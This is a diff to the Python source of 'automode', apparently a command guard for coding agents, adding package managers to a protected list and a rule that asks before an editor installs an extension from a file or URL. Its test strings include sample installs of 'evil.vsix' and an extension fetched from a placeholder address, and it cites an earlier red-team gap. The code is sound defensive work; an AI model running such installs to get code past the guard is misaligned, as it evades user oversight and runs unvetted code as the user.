@@ -14,7 +14,7 @@ from __future__ import annotations
 
 import re
 
-from automode import controls
+from automode import controls, lazyre
 from automode.paths import resolve
 from automode.rules.base import rule
 from automode.shell.interp import PYTHONS
@@ -33,7 +33,10 @@ DIR_OPTS = frozenset({"--target", "-t", "--prefix", "--root", "--system-site-pac
 ENV_VARS = ("VIRTUAL_ENV", "UV_PYTHON", "UV_PROJECT_ENVIRONMENT", "PIP_TARGET", "PIP_PREFIX")
 #: pipx and uv tool subcommands that change a named tool environment (`pipx inject automode x`).
 TOOL_CHANGES = {"pipx": frozenset({"inject", "uninject", "runpip", "reinstall", "upgrade", "uninstall", "install"}),
-                "uv": frozenset({"install", "upgrade", "uninstall"})}  # fmt: skip
+                "uv": frozenset({"install", "upgrade", "uninstall"}),
+                # other managers automode can be installed with (Homebrew, conda): removing or relinking it there
+                "brew": frozenset({"uninstall", "remove", "rm", "reinstall", "unlink", "link", "upgrade", "install"}),
+                **dict.fromkeys(("conda", "mamba", "micromamba"), frozenset({"remove", "uninstall", "install", "update"}))}  # fmt: skip
 
 
 def _prefix_of(path: str) -> str:
@@ -130,3 +133,52 @@ def own_install(cmd: Command, a: Analysis) -> str | None:
             if t == p or t.startswith(p + "/"):
                 return f"installs into {t}, the Python automode runs from (its hook imports what is installed there)"
     return None
+
+
+#: Editors whose command line installs an extension (VS Code and its forks: `--install-extension ID|FILE`; JetBrains
+#: IDEs: `installPlugins ID|FILE|URL`).
+EDITOR_CLIS = frozenset({"code", "code-insiders", "codium", "vscodium", "cursor", "windsurf", "positron", "trae", "kiro",
+                         "code-oss", "code-server", "idea", "pycharm", "webstorm", "goland", "clion", "rider",
+                         "phpstorm", "rubymine", "datagrip", "studio"})  # fmt: skip
+_EXTENSION_ID = lazyre.compile(r"^[\w-]+\.[\w.-]+(?:@[\w.+-]+)?$")  # `ms-python.python`, `esbenp.prettier-vscode@10.1.0`
+
+
+def _extension_files(cmd: Command) -> list[str]:
+    args = [w.raw if w.dynamic else w.value for w in cmd.argv[1:]]
+    out: list[str] = []
+    for i, x in enumerate(args):
+        if x == "--install-extension" and i + 1 < len(args):
+            out.append(args[i + 1])
+        elif x.startswith("--install-extension="):
+            out.append(x.split("=", 1)[1])
+    if args[:1] == ["installPlugins"]:
+        out += args[1:]
+    return [x for x in out if not _EXTENSION_ID.match(x) or x.endswith((".vsix", ".zip", ".jar"))]
+
+
+@rule(
+    "AM-AGENT-019",
+    category="agent-control",
+    verdict="ask",
+    kind="command",
+    when=lambda name: name in EDITOR_CLIS,
+    title="Installs an editor extension from a file or an address",
+    what="An editor's command line installing an extension that is not a marketplace id: a `.vsix` file, a path, an "
+    "address or a value known only at run time (`code --install-extension ./x.vsix`, `cursor --install-extension "
+    "$(ls *.vsix)`, `idea installPlugins /tmp/p.zip`).",
+    why="An extension runs code in the editor as the user each time it starts, and the editors this covers hold "
+    "coding agents and their settings (Copilot, Cursor, Windsurf): a file the session made or downloaded is code no "
+    "marketplace has seen, installed where automode does not look again (red team s12, left open then).",
+    example="code --install-extension /tmp/helper.vsix",
+    instead="Install the extension from the marketplace by its id, or ask the user to install the file.",
+    must_match=["code --install-extension evil.vsix", "cursor --install-extension /tmp/x.vsix",
+                "code --install-extension=https://x.example/e.vsix", "idea installPlugins /tmp/p.zip",
+                "code --install-extension \"$(ls *.vsix)\""],
+    must_not_match=["code --install-extension ms-python.python", "code --install-extension esbenp.prettier-vscode@10.1.0",
+                    "code .", "cursor --list-extensions", "idea installPlugins com.intellij.ideolog"],
+)  # fmt: skip
+def editor_extension_file(cmd: Command, a: Analysis) -> str | None:
+    files = _extension_files(cmd)
+    if not files:
+        return None
+    return f"installs the editor extension {files[0][:80]}, which is not a marketplace id: its code runs in the editor"
